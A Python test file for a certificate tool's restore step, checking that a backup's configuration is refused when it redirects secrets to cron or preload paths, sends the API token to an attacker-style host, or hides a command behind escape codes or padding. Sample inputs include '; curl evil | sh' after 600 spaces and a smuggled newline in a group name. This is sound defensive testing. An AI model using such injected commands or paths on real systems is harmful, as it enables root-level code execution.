"""A backup's configuration is judged before root installs it, whoever made that backup."""

from dataclasses import replace
from pathlib import Path

import pytest

from certwarden.config import Config
from certwarden.errors import TargetError, UsageError
from certwarden.setup.configuration import House
from certwarden.setup.restoration import drafted, groups, house_of, powers, refuse_unsafe
from certwarden.targets.process import Identity

API = "http://127.0.0.1:1/v4"
TEXT = f"""
[acme]
directory = "https://ca.example.org/dir"
ca_bundle = "ca.pem"
terms_of_service_agreed = true
[cloudflare]
api_token_file = "keys/token"
base_url = "{API}"
[notify]
urls_file = "/etc/certwarden/urls"
[authority]
name = "Home"
[backup]
directory = "/mnt"
passphrase_file = "/etc/certwarden/passphrase"
[[certificate]]
name = "home"
domains = ["example.org", "*.example.org"]
[[certificate.target]]
name = "a"
kind = "files"
group = "tls-a"
reload = {{ command = ["/bin/a", "\\u001b[2Jb"] }}
[[certificate.target]]
name = "b"
kind = "nginx"
group = "tls-b"
reload = {{ unit = "nginx.service", verb = "reload" }}
"""
HOUSE = House.at(Path("/etc/certwarden/config.toml"))
FIXED = TEXT.replace(
    'group = "tls-a"', 'group = "tls-a"\nkey = "/srv/red/key"\ncertificate = "/etc/ld.so.preload"'
)


def read(text: str) -> Config:
    return drafted(text.encode(), HOUSE, "the backup")


def judge(text: str, *, api_url: str | None = API, gid: int | None = None) -> None:
    ours = frozenset({"tls-a"})
    refuse_unsafe(
        read(text), HOUSE, api_url=api_url, gid_of=lambda _: gid, ours=ours, owner_of=owner_of
    )


def owner_of(directory: Path) -> Identity:
    """/srv/red is Node-RED's, /srv/any anybody's, /srv/none is not there; the rest is root's."""
    if directory == Path("/srv/any"):
        raise TargetError("anybody may write there")
    if directory == Path("/srv/none"):
        raise FileNotFoundError
    return Identity(1000, 1000) if directory == Path("/srv/red") else Identity(0, 0)


def test_it_is_read_before_its_secrets_and_groups_are_there() -> None:
    """They have to be made first, from what it says; relative paths begin at the configuration."""
    config = read(TEXT)
    assert groups(config) == ["tls-a", "tls-b"]
    moved = house_of(config, HOUSE)
    assert moved.token == Path("/etc/certwarden/keys/token")
    assert moved.notify_urls == Path("/etc/certwarden/urls")
    assert moved.backup_passphrase == Path("/etc/certwarden/passphrase")
    assert moved.ca_passphrase == Path("/etc/certwarden/secrets/ca.passphrase")
    assert moved.ca_bundle == Path("/etc/certwarden/ca.pem")


def test_what_is_in_order_passes() -> None:
    """A backup of one's own, on a machine that has none of it yet."""
    judge(TEXT)
    judge(TEXT.replace(f'base_url = "{API}"', ""), api_url=None)


@pytest.mark.parametrize(
    ("before", "after", "why"),
    [
        ("\n[acme]", 'state_directory = "/var/lib/evil"\n[acme]', "keeps the state"),
        ("/etc/certwarden/passphrase", "/etc/cron.d/zz", "/etc/cron.d/zz"),
        ("/etc/certwarden/passphrase", "../cron.d/zz", "cron.d/zz"),
        ("/etc/certwarden/urls", "/etc/certwarden/config.toml", "config.toml"),
        ('name = "Home"', 'name = "Home"\npassphrase_file = "/etc/profile.d/x.sh"', "/etc/profile"),
        ('"ca.pem"', '"/etc/ssl/x.pem"', "/etc/ssl"),
        (API, "https://evil.example.org/v4", "sent to https://evil.example.org/v4"),
    ],
)
def test_what_root_would_do_for_a_stranger_is_refused(before: str, after: str, why: str) -> None:
    """Its state, its secrets and where the token goes are nobody's choice but the person's."""
    with pytest.raises(UsageError, match=why):
        judge(TEXT.replace(before, after))


@pytest.mark.parametrize("gid", [6, 1001])
def test_a_group_that_is_there_already_is_refused(gid: int) -> None:
    """In `disk` certwarden could read every file, in a person's own group that person's; one that
    set-up has made is its own.
    """
    with pytest.raises(UsageError, match="tls-b, a group that is there already") as refusal:
        judge(TEXT, gid=gid)
    assert "write the configuration yourself" in refusal.value.hint
    judge(TEXT.replace("tls-b", "tls-a"), gid=gid)


@pytest.mark.parametrize("directory", ["/etc", "/srv/none", "/srv/any"])
def test_a_fixed_path_in_a_directory_of_roots_is_refused(directory: str) -> None:
    """`deploy` would put a link there as root; nor may the directory become root's later."""
    text = FIXED.replace("/etc/ld.so.preload", f"{directory}/ld.so.preload")
    with pytest.raises(UsageError, match=f"has {directory}/ld.so.preload written"):
        judge(text)


def test_a_fixed_path_in_a_directory_of_node_reds_user_passes() -> None:
    """There it is that user who writes; it is told all the same."""
    text = FIXED.replace("/etc/ld.so.preload", "/srv/red/chain")
    judge(text)
    told = list(powers(read(text)))
    assert told[:2] == [
        "certwarden will write /srv/red/key, for a",
        "certwarden will write /srv/red/chain, for a",
    ]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("certificate = 1\nnotify = []", "certificate"),
        (TEXT.replace('"tls-a"', '"x -\\nm pi disk"'), "line break"),
        (TEXT.replace('"tls-a"', '"x -"'), "not the name of a group"),
        (TEXT.replace('"tls-a"', '["a"]'), "string in quotes"),
        (TEXT.replace('["example.org", "*.example.org"]', "5"), "domains"),
        ("[", "not valid TOML"),
        ("a = " + "[" * 5000, "not valid TOML"),
    ],
)
def test_odd_shapes_are_sentences(text: str, why: str) -> None:
    """A configuration may be anything; a group is no line of sysusers.d."""
    with pytest.raises(UsageError, match=f"the backup: (?s:.*){why}"):
        read(text)
    with pytest.raises(UsageError):
        drafted(b"\xff", HOUSE, "the backup")


def test_what_it_has_run_is_told_apart() -> None:
    """In words that cannot move the cursor, nor begin a line of their own."""
    config = read(TEXT)
    assert list(powers(config)) == [
        "certwarden will run, for a: /bin/a '?[2Jb'",
        "certwarden will reload nginx.service, for b",
    ]
    assert list(powers(replace(config, certificates=()))) == []
    lines = read(TEXT.replace("/bin/a", "/bin/a\\n  all is well"))
    assert next(powers(lines)).startswith("certwarden will run, for a: '/bin/a?  all is well' ")


def test_what_it_has_run_is_told_whole() -> None:
    """What comes after many spaces is what matters."""
    hidden = " " * 600 + "; curl evil | sh"
    assert hidden in next(powers(read(TEXT.replace('"/bin/a"', f'"/bin/a{hidden}"'))))
